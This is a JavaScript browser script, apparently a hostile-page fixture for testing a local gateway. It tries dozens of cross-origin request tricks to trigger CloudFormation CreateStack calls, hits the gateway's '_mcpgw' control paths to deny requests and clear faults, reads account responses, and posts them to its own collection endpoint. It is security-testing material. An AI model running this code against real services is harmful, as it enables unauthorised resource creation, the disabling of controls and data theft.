// Runs in a browser, in a page of `hostile-page.ts`: tries with everything that a page has to create a stack, each
// under the name of what was tried.
;(function hostile({aim, id}) {
  const compact = new Date().toISOString().replace(/[-:]|\.\d+/g, '')
  const make = (tag, members, parent = document.body) =>
    parent.appendChild(Object.assign(document.createElement(tag), members))
  const html = text => document.body.appendChild(document.createRange().createContextualFragment(text))

  /** The fields of a call that creates a stack, signed as somebody would who has the id of a key and no secret. */
  const fields = (name, key) => ({
    Action: 'CreateStack',
    Version: '2010-05-15',
    StackName: name,
    TemplateBody: aim.template,
    ...(key !== '' && {
      'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
      'X-Amz-Credential': `${key}/${compact.slice(0, 8)}/${aim.region}/cloudformation/aws4_request`,
      'X-Amz-Date': compact,
      'X-Amz-Expires': '900',
      'X-Amz-SignedHeaders': 'host',
      'X-Amz-Signature': '0'.repeat(64),
    }),
  })

  const quiet = promise => void promise.catch(() => {})
  const formOf = (method, url, members, more = {}) => {
    const frame = `f${Math.random()}`
    make('iframe', {name: frame})
    const form = make('form', {method, action: url, target: frame, ...more})
    for (const [name, value] of Object.entries(members)) make('input', {type: 'hidden', name, value}, form)
    form.submit()
  }

  const tries = {
    image: url => make('img', {src: url}),
    silentImage: url => make('img', {referrerPolicy: 'no-referrer', src: url}),
    script: url => make('script', {src: url}),
    module: url => make('script', {type: 'module', src: url}),
    style: url => make('link', {rel: 'stylesheet', href: url}),
    background: url => void document.body.style.setProperty('background-image', `url("${url}")`),
    icon: url => make('link', {rel: 'icon', href: url}),
    preload: url => make('link', {rel: 'preload', as: 'image', href: url}),
    prefetch: url => make('link', {rel: 'prefetch', href: url}),
    object: url => make('object', {data: url}),
    embed: url => make('embed', {src: url}),
    video: url => make('video', {src: url, preload: 'auto'}),
    frame: url => make('iframe', {src: url}),
    silentFrame: url => make('iframe', {referrerPolicy: 'no-referrer', src: url}),
    refresh: url =>
      make('iframe', {
        srcdoc: `<meta http-equiv="refresh" content="0;url=${url.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}">`,
      }),
    sandbox: url => {
      const frame = make('iframe', {
        srcdoc: `<img src="${url.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}">`,
      })
      frame.setAttribute('sandbox', 'allow-scripts allow-forms')
    },
    formGet: (_url, target, members) => formOf('get', `${target}/`, members),
    formPost: (url, _target, members) => formOf('post', url, members),
    formText: (url, _target, members) => formOf('post', url, members, {enctype: 'text/plain'}),
    formFile: (url, _target, members) => formOf('post', url, members, {enctype: 'multipart/form-data'}),
    fetchNoCors: url => quiet(fetch(url, {mode: 'no-cors'})),
    fetchCors: url => quiet(fetch(url)),
    fetchSilent: url => quiet(fetch(url, {mode: 'no-cors', referrerPolicy: 'no-referrer'})),
    fetchKeepalive: url => quiet(fetch(url, {mode: 'no-cors', keepalive: true})),
    fetchPost: (url, _target, members) =>
      quiet(fetch(url, {method: 'POST', mode: 'no-cors', body: new URLSearchParams(members)})),
    fetchJson: url =>
      quiet(
        fetch(url, {method: 'POST', headers: {'content-type': 'application/x-amz-json-1.1'}, body: '{}'}),
      ),
    fetchPut: url => quiet(fetch(url, {method: 'PUT', body: 'x'})),
    xhr: (url, _target, members) => {
      const request = new XMLHttpRequest()
      request.open('POST', url)
      request.send(new URLSearchParams(members))
    },
    beacon: (url, _target, members) => void navigator.sendBeacon(url, new URLSearchParams(members)),
    ping: url => {
      const link = make('a', {href: '#', ping: url})
      link.click()
    },
    eventSource: url => void new EventSource(url),
    webSocket: url => void new WebSocket(url.replace(/^http/, 'ws')),
    worker: url =>
      void new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}, {mode: 'no-cors'})`]))),
    redirected: url => make('img', {src: `${aim.own}/redirect?${new URLSearchParams({to: url})}`}),
    redirectedForm: (url, _target, members) =>
      formOf('post', `${aim.own}/redirect?${new URLSearchParams({to: url})}`, members),
    popup: url => void window.open(url),
    speculation: url =>
      html(
        `<script type="speculationrules">${JSON.stringify({prefetch: [{source: 'list', urls: [url]}]})}</` +
          'script>',
      ),
    prerender: url =>
      html(
        `<script type="speculationrules">${JSON.stringify({prerender: [{source: 'list', urls: [url]}]})}</` +
          'script>',
      ),
  }

  const failures = []
  for (const target of aim.targets) {
    for (const key of ['', ...aim.keys]) {
      for (const [kind, attempt] of Object.entries(tries)) {
        const name = `${kind}-${id}${aim.targets.indexOf(target)}${aim.keys.indexOf(key) + 1}`
        const members = fields(name, key)
        try {
          attempt(`${target}/?${new URLSearchParams(members)}`, target, members)
        } catch (error) {
          failures.push(`${kind}: ${error}`)
        }
      }
    }
    // The account's own paths, without a word before that asks for leave.
    for (const path of ['stop', 'save', 'faults']) {
      quiet(fetch(`${target}/_mcpgw/${path}`, {method: 'POST', mode: 'no-cors', body: 'deny *'}))
    }
    quiet(fetch(`${target}/_mcpgw/faults`, {method: 'DELETE'}))
    quiet(fetch(`${target}/_mcpgw/speed`, {method: 'PUT', body: '1'}))
  }
  const read = async () => {
    const texts = []
    for (const target of aim.targets) {
      for (const path of ['/_mcpgw/account', '/', '/?Action=DescribeStacks&Version=2010-05-15']) {
        texts.push(
          await fetch(target + path).then(
            answer => answer.text(),
            () => '',
          ),
        )
      }
    }
    return texts
  }
  const told = async () => {
    const texts = await read()
    await new Promise(resolve => setTimeout(resolve, 2500))
    await fetch(`${aim.own}/done`, {method: 'POST', mode: 'no-cors', body: JSON.stringify({texts, failures})})
    // At last the page itself goes there.
    const members = fields(`navigation-${id}01`, aim.keys.at(-1) ?? '')
    location.href = `${aim.targets[0]}/?${new URLSearchParams(members)}`
  }
  void told()
})(window.given)
